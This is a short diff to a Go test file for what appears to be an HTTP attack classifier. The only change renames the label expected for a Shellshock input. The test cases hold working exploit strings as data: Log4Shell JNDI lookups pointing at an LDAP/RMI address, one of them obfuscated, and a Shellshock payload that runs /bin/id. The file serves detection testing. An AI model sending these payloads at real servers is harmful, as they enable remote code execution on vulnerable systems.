@@ -112,7 +112,7 @@ func TestOneRequestIsEnough(t *testing.T) {
 	f(get("/?x=%24%7Bjndi:ldap://192.0.2.200/a%7D"), "http-lookups")
 	f(get("/?x=${${::-j}${::-n}di:rmi://192.0.2.200/a}&y=%"), "http-lookups")
 	f(get("/search?q=%24%7Bjndi"), "")
-	f(calls("() { :; }; /bin/id"), "http-shellshock")
+	f(calls("() { :; }; /bin/id"), "http-shell-function")
 	f(get("/w00tw00t.at.ISC.SANS.DFind:)"), "http-w00tw00t")
 	// None of these is an attack by itself.
 	f(get("/phpmyadmin/"), "")
